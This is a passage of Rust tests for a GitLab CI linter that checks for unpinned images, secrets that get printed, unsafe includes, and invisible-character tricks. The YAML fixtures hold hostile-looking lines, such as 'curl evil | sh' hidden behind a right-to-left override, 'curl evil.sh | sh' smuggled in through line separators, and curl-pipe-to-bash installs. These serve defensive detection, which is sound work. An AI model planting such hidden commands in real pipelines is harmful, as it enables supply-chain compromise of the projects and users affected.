        "[remote \"origin\"]\n\turl = https://oauth2:glpat-SECRETSECRET@gitlab.com/a/b\n",
    )
    .expect("write");
    std::os::unix::fs::symlink(dir.join(".git/config"), dir.join(".gitlab-ci.yml")).expect("link");
    let o = plumb_in(&dir, &["check", "."]);
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(!all.contains("SECRETSECRET"), "{all}");
    assert!(all.contains("inside `.git`"), "{all}");
}

/// A job named by an empty key (`:`, which YAML allows) becomes a job the program can
/// name (fuzzing found it named `job`, a keyword, and the program did not parse).
#[test]
fn an_empty_job_name_still_makes_a_program() {
    let dir = scratch("yaml-empty-name");
    std::fs::write(
        dir.join("x.yml"),
        ":\n  image: node:latest\n  script: [make]\n",
    )
    .expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    assert_eq!(
        places(&diags),
        ["x.yml:2 PL3002".to_string()].into(),
        "{diags:?}"
    );
    let o = plumb_in(&dir, &["import", "x.yml"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

/// Two identical old findings are baselined; a third job like them, added above, is the
/// new finding (not the last old one); and the baseline matches from another folder.
#[test]
fn a_baseline_tells_a_new_identical_finding_from_the_old_ones() {
    let dir = scratch("yaml-baseline-identical");
    let old =
        "a:\n  image: node:latest\n  script: [make]\nb:\n  image: node:latest\n  script: [make]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), old).expect("write");
    let o = plumb_in(
        &dir,
        &["check", ".gitlab-ci.yml", "--write-baseline", "base.json"],
    );
    assert_eq!(o.status.code(), Some(0));
    let above = format!("z:\n  image: node:latest\n  script: [make]\n{old}");
    std::fs::write(dir.join(".gitlab-ci.yml"), above).expect("write");
    let args = [
        "check",
        "--format",
        "json",
        ".gitlab-ci.yml",
        "--baseline",
        "base.json",
    ];
    let (diags, _) = json(&args, &dir);
    assert_eq!(
        places(&diags),
        [".gitlab-ci.yml:2 PL3002".to_string()].into()
    );
    std::fs::create_dir_all(dir.join("sub")).expect("mkdir");
    let args = [
        "check",
        "--format",
        "json",
        "../.gitlab-ci.yml",
        "--baseline",
        "../base.json",
    ];
    let (diags, _) = json(&args, &dir.join("sub"));
    assert_eq!(diags.len(), 1, "{diags:?}");
}

/// A job that writes the same value as its template (or `default:`) wrote its own: the
/// finding is on the job's line, where its `# plumb-allow` works.
#[test]
fn a_value_a_job_repeats_is_reported_where_the_job_writes_it() {
    let dir = scratch("yaml-restated");
    std::fs::write(
        dir.join(".gitlab-ci.yml"),
        concat!(
            ".base:\n  image: node:latest\n  script: [make]\n",
            "b:\n  extends: .base\n  image: node:latest\n  script: [make]\n",
            "default:\n  image: ruby:3.3\n",
            "plain:\n  script: [make]\n",
            "restates:\n  image: ruby:3.3  # plumb-allow: PL3003 vendor gives no digest\n  script: [make]\n",
        ),
    )
    .expect("write");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(
        places(&diags),
        // `.base` itself is used by no job that keeps its image: nothing runs it
        [".gitlab-ci.yml:6 PL3002", ".gitlab-ci.yml:9 PL3003"]
            .into_iter()
            .map(String::from)
            .collect(),
        "{diags:?}"
    );
}

/// A GitLab CI file that a checked one includes is checked through it (with the
/// includer's variables), not again on its own; `plumb.toml` applies to YAML's PL1013.
#[test]
fn included_files_are_checked_through_their_includer() {
    let dir = scratch("yaml-included-walk");
    std::fs::create_dir_all(dir.join(".git")).expect("repository");
    std::fs::create_dir_all(dir.join("ci")).expect("mkdir");
    std::fs::write(
        dir.join(".gitlab-ci.yml"),
        "include:\n  - local: ci/build.gitlab-ci.yml\nvariables:\n  IMG: ruby:3.3.0@sha256:0000000000000000000000000000000000000000000000000000000000000000\n",
    )
    .expect("write");
    std::fs::write(
        dir.join("ci/build.gitlab-ci.yml"),
        "build:\n  image: $IMG\n  script: [make]\n# plumb-allow: PL3002 until 2001-01-01 old\n",
    )
    .expect("write");
    std::fs::write(dir.join("plumb.toml"), "[lint]\nallow = [\"PL1013\"]\n").expect("write");
    let (diags, code) = json(&["check", "--format", "json", "."], &dir);
    assert_eq!((diags.len(), code), (0, 0), "{diags:?}");
}

/// Includes nest as deep as GitLab lets them (100 files): a job 40 files down is
/// checked (it was left out at 32, and the file said clean).
#[test]
fn deeply_nested_includes_are_read() {
    let dir = scratch("yaml-include-depth");
    std::fs::create_dir_all(dir.join(".git")).expect("repository");
    std::fs::create_dir_all(dir.join("ci")).expect("mkdir");
    std::fs::write(
        dir.join(".gitlab-ci.yml"),
        "include:\n  - local: ci/f1.yml\n",
    )
    .expect("write");
    for i in 1..40 {
        let next = format!("include:\n  - local: ci/f{}.yml\n", i + 1);
        std::fs::write(dir.join(format!("ci/f{i}.yml")), next).expect("write");
    }
    std::fs::write(
        dir.join("ci/f40.yml"),
        "leak:\n  image: alpine:latest\n  script: [make]\n",
    )
    .expect("write");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(code, 1, "{diags:?}");
    assert!(diags.iter().any(|d| d["code"] == "PL3002"), "{diags:?}");
}

/// What the YAML leaves to someone else is not reported as wrong: a component's
/// `$[[ inputs.img ]]` image cannot be checked (PL3007, not a malformed reference), and
/// an `optional: true` need of a job that may not exist is what GitLab allows.
#[test]
fn component_inputs_and_optional_needs_are_not_errors() {
    let dir = scratch("yaml-inputs");
    std::fs::write(
        dir.join("x.yml"),
        concat!(
            "spec:\n  inputs:\n    img:\n---\n",
            "a:\n  image: $[[ inputs.img ]]\n  script: [make]\n",
            "b:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n",
            "  script: [make]\n  needs:\n    - job: x\n      optional: true\n",
            // the artifacts of an optional need are what `dependencies:` may name
            "c:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n",
            "  script: [make]\n  needs:\n    - job: b\n      optional: true\n  dependencies: [b]\n",
        ),
    )
    .expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 0, "{diags:?}");
    assert_eq!(places(&diags), ["x.yml:6 PL3007".to_string()].into());
}

/// The text with the edits of every fix titled `title` (or all allow fixes) made.
fn with_fixes(text: &str, diags: &[Value], wanted: &dyn Fn(&str) -> bool) -> String {
    let line_starts: Vec<usize> = std::iter::once(0)
        .chain(text.match_indices('\n').map(|(i, _)| i + 1))
        .collect();
    let offset = |line: &Value, column: &Value| {
        let line = line.as_u64().expect("line") as usize;
        line_starts[line - 1] + column.as_u64().expect("column") as usize - 1
    };
    let mut edits: Vec<(usize, usize, String)> = diags
        .iter()
        .flat_map(|d| d["fixes"].as_array().cloned().unwrap_or_default())
        .filter(|f| wanted(f["title"].as_str().unwrap_or_default()))
        .flat_map(|f| f["edits"].as_array().cloned().unwrap_or_default())
        .map(|e| {
            (
                offset(&e["line"], &e["column"]),
                offset(&e["end_line"], &e["end_column"]),
                e["replacement"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    edits.sort_by(|a, b| b.cmp(a));
    let mut out = text.to_string();
    for (start, end, replacement) in edits {
        out.replace_range(start..end, &replacement);
    }
    out
}

/// A rule's fix applies to the YAML when it lands inside one value and the value, so
/// edited, reads as the fixed program's value: written in the value's own style (`\"`
/// in a double-quoted scalar, as is in a plain, single-quoted or block one). Applied,
/// the quote and checksum fixes remove their findings and keep the YAML valid; the
/// YAML's own allow fix silences a finding, one inside a `script: |` block too.
#[test]
fn fixes_apply_to_the_yaml_as_written() {
    let dir = scratch("yaml-fixes");
    let pinned = format!("alpine:3.19@sha256:{}", "a".repeat(64));
    let text = format!(
        concat!(
            "image: {pinned}\n",
            "build:\n",
            "  script:\n",
            "    - echo $CI_COMMIT_MESSAGE\n",
            "    - \"echo $CI_MERGE_REQUEST_TITLE done\"\n",
            "    - 'printf %s $CI_COMMIT_MESSAGE'\n",
            "    - |\n",
            "      make\n",
            "      echo $CI_MERGE_REQUEST_DESCRIPTION\n",
            "  after_script: [echo $CI_COMMIT_MESSAGE]\n",
            "setup:\n",
            "  script:\n",
            "    - curl -fsSL https://get.example.com/install.sh | bash\n",
            "    - \"curl -fsSL https://get.example.com/other.sh | sh\"\n",
        ),
        pinned = pinned
    );
    let file = dir.join(".gitlab-ci.yml");
    let check = |text: &str| {
        std::fs::write(&file, text).expect("write");
        json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir).0
    };
    let diags = check(&text);
    let codes = |diags: &[Value]| -> Vec<String> {
        diags
            .iter()
            .map(|d| format!("{}:{}", d["code"].as_str().unwrap_or_default(), d["line"]))
            .collect()
    };
    assert_eq!(
        codes(&diags),
        [
            "PL6001:4",
            "PL6001:5",
            "PL6001:6",
            "PL6001:9",
            "PL6001:10",
            "PL6002:13",
            "PL6002:14"
        ]
    );
    for d in &diags {
        let titles: Vec<&str> = d["fixes"]
            .as_array()
            .expect("fixes")
            .iter()
            .filter_map(|f| f["title"].as_str())
            .collect();
        assert_eq!(titles.len(), 2, "a fix and the allow fix: {d}");
    }
    let quoted = with_fixes(&text, &diags, &|t| t == "quote the expansion");
    assert!(
        quoted.contains("    - echo \"$CI_COMMIT_MESSAGE\"\n"),
        "{quoted}"
    );
    assert!(
        quoted.contains("\"echo \\\"$CI_MERGE_REQUEST_TITLE\\\" done\""),
        "{quoted}"
    );
    assert!(
        quoted.contains("      echo \"$CI_MERGE_REQUEST_DESCRIPTION\"\n"),
        "{quoted}"
    );
    assert_eq!(
        codes(&check(&quoted)),
        ["PL6002:13", "PL6002:14"],
        "{quoted}"
    );
    let verified = with_fixes(&text, &diags, &|t| t.starts_with("check the download"));
    assert_eq!(
        codes(&check(&verified))[..5],
        codes(&diags)[..5],
        "{verified}"
    );
    assert_eq!(check(&verified).len(), 5, "{verified}");
    let allowed = with_fixes(&text, &diags, &|t| t.contains("plumb-allow"));
    assert!(
        allowed.contains("    # plumb-allow: PL6001 <why this is safe>\n    - |\n"),
        "{allowed}"
    );
    assert_eq!(codes(&check(&allowed)), Vec::<String>::new(), "{allowed}");
}

/// The values of a YAML text, without their places.
fn values(text: &str) -> String {
    fn shape(n: &plumb_import::yaml::Node, out: &mut String) {
        use plumb_import::yaml::Kind;
        match &n.kind {
            Kind::Scalar { text, .. } => out.push_str(&format!("{text:?} ")),
            Kind::Seq(items) => {
                out.push('[');
                items.iter().for_each(|i| shape(i, out));
                out.push(']');
            }
            Kind::Map(entries) => {
                out.push('{');
                for e in entries {
                    out.push_str(&format!("{:?}: ", e.key));
                    shape(&e.value, out);
                }
                out.push('}');
            }
            other => out.push_str(&format!("{other:?} ")),
        }
    }
    let mut out = String::new();
    for doc in plumb_import::yaml::parse(text, 0).expect("YAML") {
        shape(&doc, &mut out);
    }
    out
}

/// An allow fix's comment is a comment: above a block's `|` line (found behind a tab and
/// a comment too), above the first line of a quoted string that runs over lines in a
/// flow sequence; applied, every finding is silenced and no value changes.
#[test]
fn allow_fixes_never_land_inside_a_value() {
    let dir = scratch("yaml-allow-fixes");
    let pinned = format!("alpine:3.19@sha256:{}", "a".repeat(64));
    let text = format!(
        concat!(
            "a:\n",
            "  image: {pinned}\n",
            "  script: [\"echo 'start\n",
            "      here'\", \"curl https://get.example.com/i.sh | sh\"]\n",
            "b:\n",
            "  image: {pinned}\n",
            "  script:\n",
            "    - |\t# a note: a|b\n",
            "      make\n",
            "      echo $CI_COMMIT_MESSAGE\n",
            "  \"step #1\": |\n",
            "      echo $CI_MERGE_REQUEST_TITLE\n",
        ),
        pinned = pinned
    );
    let file = dir.join(".gitlab-ci.yml");
    std::fs::write(&file, &text).expect("write");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert!(diags.len() >= 2, "{diags:?}");
    let allowed = with_fixes(&text, &diags, &|t| t.contains("plumb-allow"));
    assert!(
        allowed.contains("  # plumb-allow: PL6002 <why this is safe>\n  script: [\"echo 'start\n"),
        "{allowed}"
    );
    assert!(
        allowed.contains("    # plumb-allow: PL6001 <why this is safe>\n    - |\t# a note"),
        "{allowed}"
    );
    assert_eq!(values(&allowed), values(&text), "{allowed}");
    std::fs::write(&file, &allowed).expect("write");
    let (after, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(after, Vec::<Value>::new(), "{allowed}");
}

/// PL6004 on a project include at a branch is reported at its `ref:` value, one finding
/// per include (it was at the top of the file, and two such includes became one).
#[test]
fn an_unpinned_project_include_is_reported_at_its_ref() {
    let dir = scratch("yaml-project-ref");
    let text = "include:\n  - project: group/ci-a\n    ref: main\n    file: a.yml\n  - project: group/ci-b\n    ref: develop\n    file: b.yml\n\ntest:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script: [make]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), text).expect("write");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let at: Vec<(u64, u64)> = diags
        .iter()
        .filter(|d| d["code"] == "PL6004")
        .map(|d| {
            (
                d["line"].as_u64().unwrap_or(0),
                d["column"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(at, [(3, 10), (6, 10)], "{diags:?}");
}

/// PL6007 reads the YAML as written: a `"\u200b"` escape is no invisible character, a
/// raw one in a comment is (Trojan Source hides code in comments too).
#[test]
fn invisible_characters_are_found_in_the_yaml_as_written() {
    let dir = scratch("yaml-invisible");
    let text = "test:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script:\n    - \"echo \\u200b\"\n    # check the build \u{202E} ; curl evil | sh\n    - make\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), text).expect("write");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines: Vec<u64> = diags
        .iter()
        .filter(|d| d["code"] == "PL6007")
        .map(|d| d["line"].as_u64().unwrap_or(0))
        .collect();
    assert_eq!(lines, [5], "{diags:?}");
}

/// A line or paragraph separator is a line break to GitLab's YAML reader (YAML 1.1) and
/// not in an editor: a script line that hides an `image:` and an `after_script:` GitLab
/// reads is an error, never "no problems found".
#[test]
fn line_separators_that_hide_keys_from_the_reader_are_errors() {
    let dir = scratch("yaml-line-separator");
    for (n, separator) in ['\u{2028}', '\u{2029}', '\u{85}'].into_iter().enumerate() {
        let text = format!("test:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script:\n    - |\n      echo safe{separator}  image: evil:latest{separator}  after_script: [curl evil.sh | sh]\n");
        let file = format!("{n}.gitlab-ci.yml");
        std::fs::write(dir.join(&file), text).expect("write");
        let (diags, status) = json(&["check", "--format", "json", &file], &dir);
        let found: Vec<(&str, u64)> = diags
            .iter()
            .filter(|d| d["code"] == "PL6007")
            .map(|d| {
                (
                    d["severity"].as_str().unwrap_or(""),
                    d["line"].as_u64().unwrap_or(0),
                )
            })
            .collect();
        assert_eq!(
            found,
            [("error", 5), ("error", 5)],
            "{separator:?}: {diags:?}"
        );
        assert_eq!(status, 1);
    }
}

/// `plumb.toml` applies to the invisible characters of a YAML file as to any finding.
#[test]
fn plumb_toml_applies_to_invisible_characters_in_yaml() {
    let dir = scratch("yaml-invisible-toml");
    let text = "test:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script:\n    # a comment \u{202E} with an override\n    - make\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), text).expect("write");
    std::fs::write(dir.join("plumb.toml"), "[lint]\nwarn = [\"PL6007\"]\n").expect("write");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let severities: Vec<&str> = diags
        .iter()
        .filter(|d| d["code"] == "PL6007")
        .map(|d| d["severity"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(severities, ["warning"], "{diags:?}");
    assert_eq!(code, 0);
}

/// Secrets that reach a script through GitLab's variables and the shell's escapes: each
/// printed one is found on its line, and the escaped ones are not.
#[test]
fn secrets_through_variables_and_escapes() {
    let dir = scratch("yaml-secret-escapes");
    let yaml = r#"default:
  before_script:
    - echo a: b
job:
  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76
  variables:
    AUTH: "Bearer ${DEPLOY_TOKEN}"
    PLAIN: "$$DEPLOY_TOKEN"
  script:
    - echo "$AUTH"
    - echo "$PLAIN"
    - echo "\$DEPLOY_TOKEN"
    - echo "\\$DEPLOY_TOKEN"
  rules:
    - if: $CI_COMMIT_BRANCH == "main"
"#;
    std::fs::write(dir.join("x.yml"), yaml).expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    let expected: std::collections::BTreeSet<String> =
        ["x.yml:3 PL1003", "x.yml:10 PL4003", "x.yml:13 PL4003"]
            .into_iter()
            .map(String::from)
            .collect();
    assert_eq!(places(&diags), expected, "{diags:?}");
}

/// `DEPLOY_TOKEN: ""` documents a variable the project's settings give, when something
/// says they do (a `description`, or a job that reads it without setting it): their
/// value overrides the YAML's, so the script's `$DEPLOY_TOKEN` is the secret (the
/// placeholder switched the rules off). An empty password for a throwaway service
/// database, with no such sign, is just empty.
#[test]
fn a_credential_placeholder_in_the_yaml_is_the_settings_secret() {
    let dir = scratch("yaml-placeholder");
    let yaml = r#"variables:
  DEPLOY_TOKEN:
    value: ""
    description: "set in Settings > CI/CD > Variables"
deploy:
  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76
  script:
    - echo "using $DEPLOY_TOKEN"
review:
  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76
  variables:
    REGISTRY_PASSWORD: ""
    API_URL: ""
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
  script:
    - echo "$REGISTRY_PASSWORD $API_URL"
push:
  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76
  script:
    - printf %s "$REGISTRY_PASSWORD" | docker login -u ci --password-stdin r.example.com
test:
  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76
  services: [postgres:16.4@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76]
  variables:
    POSTGRES_PASSWORD: ""
    POSTGRES_HOST_AUTH_METHOD: trust
  script:
    - psql -h postgres -U postgres -c "select 1" "password=$POSTGRES_PASSWORD"
"#;
    std::fs::write(dir.join("x.yml"), yaml).expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    let expected: std::collections::BTreeSet<String> =
        ["x.yml:8 PL4003", "x.yml:17 PL4003", "x.yml:17 PL4006"]
            .into_iter()
            .map(String::from)
            .collect();
    assert_eq!(places(&diags), expected, "{diags:?}");
}

/// Forms of unseen real pipelines that were false findings: a `v`-prefixed release of a
/// component (PL6004), a macOS runner's VM image (PL3001), a list of `path=NAME` pairs
/// named like a secret (PL4001), a file included once per set of `inputs` (PL1002).
#[test]
fn real_forms_that_are_no_findings() {
    let dir = scratch("yaml-real-no-findings");
    std::fs::create_dir_all(dir.join(".git")).expect("git");
    std::fs::create_dir_all(dir.join("ci")).expect("ci");
    let pinned =
        "alpine:3.20@sha256:77726ef6b57ddf65bb551896826ec38bc3e53f75cdde31354fbffb4f25238ebd";
    std::fs::write(
        dir.join("ci/publish-job.yml"),
        format!("spec:\n  inputs:\n    job_name:\n      default: publish\n---\n$[[ inputs.job_name ]]:\n  image: {pinned}\n  script: [./publish.sh]\n"),
    )
    .expect("write");
    let yaml = format!(
        r#"include:
  - component: gitlab.com/acme/ci/c2@v2.1.0
  - local: ci/publish-job.yml
    inputs: {{ job_name: publish }}
  - local: ci/publish-job.yml
    inputs: {{ job_name: publish_mr }}
ios:
  image: macos-14-xcode-15
  tags: [saas-macos-medium-m1]
  script: [xcodebuild -version]
deploy:
  image: {pinned}
  variables:
    VAULT_SECRETS: "deploy/DEPLOY_TOKEN=DEPLOY_TOKEN ci/REDIS_PASS=REDIS_PASS"
  script: [./fetch-from-vault.sh]
"#
    );
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("write");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let codes: Vec<&str> = diags.iter().filter_map(|d| d["code"].as_str()).collect();
    for code in ["PL6004", "PL3001", "PL4001", "PL1002"] {
        assert!(!codes.contains(&code), "{code}: {diags:?}");
    }
}

/// GitLab's `Workflows/MergeRequest-Pipelines` template sets `workflow: rules` that admit
/// merge requests: jobs without rules then run in them too, with the project's secrets.
#[test]
fn an_included_workflow_template_opens_jobs_to_merge_requests() {
    let dir = scratch("yaml-mr-template");
    let yaml = "include:\n  - template: Workflows/MergeRequest-Pipelines.gitlab-ci.yml\ndeploy:\n  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76\n  script:\n    - printf %s \"$DEPLOY_TOKEN\" | docker login -u ci --password-stdin r.example.com\n";
    std::fs::write(dir.join("x.yml"), yaml).expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    let expected: std::collections::BTreeSet<String> =
        ["x.yml:6 PL4006"].into_iter().map(String::from).collect();
    assert_eq!(places(&diags), expected, "{diags:?}");
}

/// `rules: $[[ inputs.rules ]]` is a component's input, unknown to a check of the
/// component's file: the job is checked as one that may run (it was left out as one no
/// rule adds, and the file was clean).
#[test]
fn rules_from_a_component_input_keep_the_job_checked() {
    let dir = scratch("yaml-input-rules");
    let yaml = "spec:\n  inputs:\n    rules:\n      type: array\n      default:\n        - if: $CI_COMMIT_TAG\n---\npublish:\n  rules: $[[ inputs.rules ]]\n  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76\n  script:\n    - twine upload -u __token__ -p $TWINE_PASSWORD dist/*\n";
    std::fs::write(dir.join("x.yml"), yaml).expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    assert!(places(&diags).contains("x.yml:12 PL4004"), "{diags:?}");
}

/// A file of hidden jobs only (a library other files include and extend) is checked for
/// what its templates say, each named as GitLab does; in a file with jobs, a hidden job
/// none extends (a job switched off) is not.
#[test]
fn a_library_of_hidden_jobs_is_checked() {
    let dir = scratch("yaml-template-library");
    let library = ".terraform-base:\n  image: hashicorp/terraform:1.9.8\n  before_script:\n    - terraform init -backend-config=\"secret_key=${AWS_SECRET_ACCESS_KEY}\"\n";
    std::fs::write(dir.join("terraform.yml"), library).expect("write");
    let o = plumb_in(&dir, &["check", "terraform.yml"]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(out.contains("template `.terraform-base`"), "{out}");
    insta::assert_snapshot!(out);
    let with_a_job = format!(
        "{library}plan:\n  image: alpine:3.20@sha256:{}\n  script: [make]\n",
        "0".repeat(64)
    );
    std::fs::write(dir.join("switched-off.yml"), with_a_job).expect("write");
    let (diags, code) = json(&["check", "--format", "json", "switched-off.yml"], &dir);
    assert_eq!((diags.len(), code), (0, 0), "{diags:?}");
}

/// Findings are drawn in files with multi-byte characters before their spans, also a
/// related span in another file than the finding's (it panicked: a character offset read
/// as a byte offset fell inside `─`).
#[test]
fn spans_after_multi_byte_characters_are_drawn() {
    let dir = scratch("yaml-multibyte-draw");
    std::fs::create_dir_all(dir.join(".git")).expect("repository");
    std::fs::create_dir_all(dir.join("ci")).expect("mkdir");
    std::fs::write(
        dir.join(".gitlab-ci.yml"),
        "include:\n  - local: ci/templates.yml\n  - local: ci/jobs.yml\n",
    )
    .expect("write");
    std::fs::write(
        dir.join("ci/templates.yml"),
        "# é\n.node:\n  image: node:20\n",
    )
    .expect("write");
    std::fs::write(
        dir.join("ci/jobs.yml"),
        "# ─── Install ──────────\ninstall:\n  extends: .node\n  script:\n    - echo \"✓ ─ $CI_JOB_TOKEN\"\n",
    )
    .expect("write");
    let o = plumb_in(&dir, &["check", ".gitlab-ci.yml"]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(
        o.status.code(),
        Some(1),
        "{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    insta::assert_snapshot!(out);
}

/// A project variable named in text a program the script runs may expand (`xargs sh -c
/// '… $T'`, `envsubst '$T'`) is read by the job: PL4006 in a merge request's pipeline,
/// PL4005 with an unpinned image, as when the script reads it itself; `\$T` in a
/// here-doc is text. A secret whose Vault engine Plumb cannot name is the job's own,
/// never a project variable of that name.
#[test]
fn a_variable_named_for_a_program_the_script_runs_is_read() {
    let dir = scratch("named-for-a-program");
    let pinned =
        "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91";
    let yaml = format!(
        "stages: [test]\nfanout:\n  image: {pinned}\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n  script:\n    - ls | xargs -I{{}} sh -c 'up {{}} \"$DEPLOY_TOKEN\"'\nrender:\n  image: alpine:3.20\n  script:\n    - envsubst '$KUBE_TOKEN' < k8s.yml > out.yml\nchild:\n  image: {pinned}\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n  script:\n    - |\n      cat > child.yml <<EOF\n      up: {{script: [echo \"\\$API_TOKEN\" | ./up --stdin]}}\n      EOF\nvaulted:\n  image: {pinned}\n  secrets:\n    API_KEY:\n      vault: {{engine: {{name: kv-v1, path: kv}}, path: app, field: api_key}}\n  script: ['./deploy.sh --key-file \"$API_KEY\"']\nfanout2:\n  image: {pinned}\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n  script:\n    - find . -exec sh -c \"up \\$OTHER_TOKEN\" \\;\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    // (`find -exec sh -c`: a shell's code, where a secret counts as printed)
    let expected: BTreeSet<String> = ["7 PL4006", "9 PL3003", "9 PL4005", "32 PL4003", "32 PL4006"]
        .into_iter()
        .map(String::from)
        .collect();
    assert_eq!(found, expected, "{diags:#?}");
    let o = plumb_in(&dir, &["import", ".gitlab-ci.yml", "-o", "ci.plumb"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let program = std::fs::read_to_string(dir.join("ci.plumb")).expect("program");
    assert!(!program.contains("ci_variable(\"API_KEY\")"), "{program}");
    let (diags, _) = json(&["check", "--format", "json", "ci.plumb"], &dir);
    let mut codes: Vec<&str> = diags.iter().filter_map(|d| d["code"].as_str()).collect();
    codes.sort();
    assert_eq!(
        codes,
        ["PL3003", "PL4003", "PL4005", "PL4006", "PL4006"],
        "{diags:#?}"
    );
}

/// Variables that rules set (a job's `rules:`, `workflow: rules:`) are checked as the
/// job's: a secret copied through one, a literal credential, `CI_DEBUG_TRACE` (all were
/// unchecked, and the file reported clean), where the rules set them alike and where
/// they differ (the job may run with any).
#[test]
fn variables_set_by_rules_are_checked() {
    let dir = scratch("rule-variables");
    let img = "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let main = "{if: $CI_COMMIT_BRANCH == \"main\"";
    let cases = [
        (format!("j:\n  image: {img}\n  rules:\n    - {main}, variables: {{AUTH: $DEPLOY_TOKEN}}}}\n  script: ['curl -u \"u:$AUTH\" https://x']\n"), "PL4004"),
        (format!("j:\n  image: {img}\n  rules:\n    - {main}, variables: {{AUTH: none}}}}\n    - {{if: $CI_COMMIT_TAG, variables: {{AUTH: $DEPLOY_TOKEN}}}}\n  script: ['curl -u \"u:$AUTH\" https://x']\n"), "PL4004"),
        (format!("workflow:\n  rules:\n    - {main}, variables: {{AUTH: $DEPLOY_TOKEN}}}}\nj:\n  image: {img}\n  script: ['echo \"$AUTH\"']\n"), "PL4003"),
        // another variable's value in the first rule does not hide the secret's
        (format!("j:\n  image: {img}\n  rules:\n    - {main}, variables: {{X: $CI_COMMIT_SHA}}}}\n    - {{if: $CI_COMMIT_TAG, variables: {{X: $DEPLOY_TOKEN}}}}\n  script: ['echo $X']\n"), "PL4003"),
        (format!("j:\n  image: {img}\n  rules:\n    - {main}, variables: {{CI_DEBUG_TRACE: \"false\"}}}}\n    - {{if: $CI_COMMIT_TAG, variables: {{CI_DEBUG_TRACE: \"true\"}}}}\n  script: ['./deploy --token-file \"$DEPLOY_TOKEN\"']\n"), "PL6006"),
        (format!("j:\n  image: {img}\n  rules:\n    - {main}, variables: {{DEPLOY_PASSWORD: hunter2hunter2}}}}\n  script: [./deploy]\n"), "PL4001"),
        (format!("j:\n  image: {img}\n  rules:\n    - {main}, variables: {{CI_DEBUG_TRACE: \"true\"}}}}\n  script: ['./deploy --token-file \"$DEPLOY_TOKEN\"']\n"), "PL6006"),
    ];
    for (yaml, code) in cases {
        std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
        let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
        assert!(
            diags.iter().any(|d| d["code"] == code),
            "{code} in\n{yaml}\n{diags:#?}"
        );
    }
}

/// A project variable read by name, without `$` (`printenv T`, a program's environment
